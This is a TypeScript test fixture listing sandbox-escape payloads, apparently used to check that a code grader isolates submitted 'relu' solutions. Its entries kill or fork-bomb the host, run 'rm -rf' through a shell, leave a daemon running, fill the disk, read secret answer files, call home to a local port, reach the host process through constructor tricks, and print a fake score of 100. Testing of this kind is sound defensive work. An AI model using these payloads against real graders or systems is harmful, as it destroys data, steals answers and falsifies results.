import type { Attack } from "./attack.js";

/** Asks for Node, its processes, files and network: none of it is there. */
export const processes: readonly Attack[] = [
  { name: "exits at once", source: `process.exit(0); const relu = (E, x) => (x > 0 ? E : 0);` },
  { name: "exits in the answer", source: `const relu = (E, x) => { process.exit(0); };` },
  { name: "aborts", source: `const relu = () => process.abort();` },
  { name: "kills its parent", source: `const relu = () => process.kill(process.ppid, "SIGKILL");` },
  { name: "kills its group", source: `const relu = () => process.kill(-process.pid, 9);` },
  { name: "ignores signals", source: `process.on("SIGTERM", () => {}); const relu = () => { for (;;); };` },
  {
    name: "waits for its exit to print a score",
    source: `process.on("exit", () => console.log(JSON.stringify({ score: 100 }))); const relu = () => 0;`,
  },
  {
    name: "starts a shell",
    source: `import { execSync } from "node:child_process";
const relu = () => Number(execSync("rm -rf CANARY; echo 1"));`,
  },
  {
    name: "forks without end",
    source: `const { fork } = require("child_process"); for (;;) fork("x"); const relu = () => 0;`,
  },
  {
    name: "leaves a daemon",
    source: `import { spawn } from "child_process";
spawn("sh", ["-c", "while true; do touch CANARY/daemon; sleep 1; done"], { detached: true }).unref();
const relu = (E, x) => (x > 0 ? E : 0) + 1;`,
  },
  {
    name: "starts a worker",
    source: `import { Worker } from "node:worker_threads";
const relu = () => new Worker("for (;;);", { eval: true });`,
  },
  {
    name: "loads a native module",
    source: `const relu = () => process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6");`,
  },
  {
    name: "deletes files",
    source: `import fs from "node:fs"; fs.rmSync("CANARY", { recursive: true }); const relu = () => 0;`,
  },
  {
    name: "fills the disk",
    source: `import * as fs from "fs";
const relu = () => { for (let i = 0; ; i++) fs.appendFileSync("CANARY/full", "x".repeat(1e6)); };`,
  },
  {
    name: "reads the questions",
    source: `const relu = () => require("fs").readFileSync("CANARY/secret", "utf8").length;`,
  },
  {
    name: "imports a file of the host",
    source: `const questions = await import("file://CANARY/secret.mjs"); const relu = questions.reference;`,
  },
  {
    name: "imports from a URL",
    source: `const stolen = await import("http://127.0.0.1:PORT/answer.mjs"); const relu = stolen.relu;`,
  },
  {
    name: "reads the environment",
    source: `const relu = () => Object.keys(process.env).length;`,
  },
  {
    name: "phones home",
    source: `fetch("http://127.0.0.1:PORT/?seed=" + 1); const relu = () => { fetch("http://127.0.0.1:PORT/"); };`,
  },
  {
    name: "opens a port",
    source: `import net from "node:net"; net.createServer().listen(47813); const relu = () => net.connect(PORT);`,
  },
  {
    name: "gets at the host by constructors",
    source: `const host = [].constructor.constructor("return process")();
const relu = (E, x) => host.mainModule.require("fs").readdirSync("/").length;`,
  },
  {
    name: "gets at the host by an error's stack",
    source: `Error.prepareStackTrace = (_, frames) => frames;
const relu = () => new Error().stack[0].getThis().constructor.constructor("return process")().exit();`,
  },
  {
    name: "gets at the host by a host function",
    source: `import { scalar } from "gradbook";
const relu = (E, x) => scalar.exp.constructor("return process")().exit(0);`,
  },
  {
    name: "assembles a WebAssembly module",
    source: `const relu = () => new WebAssembly.Memory({ initial: 65536 }).buffer.byteLength;`,
  },
  {
    name: "shares memory",
    source: `const relu = () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`,
  },
];
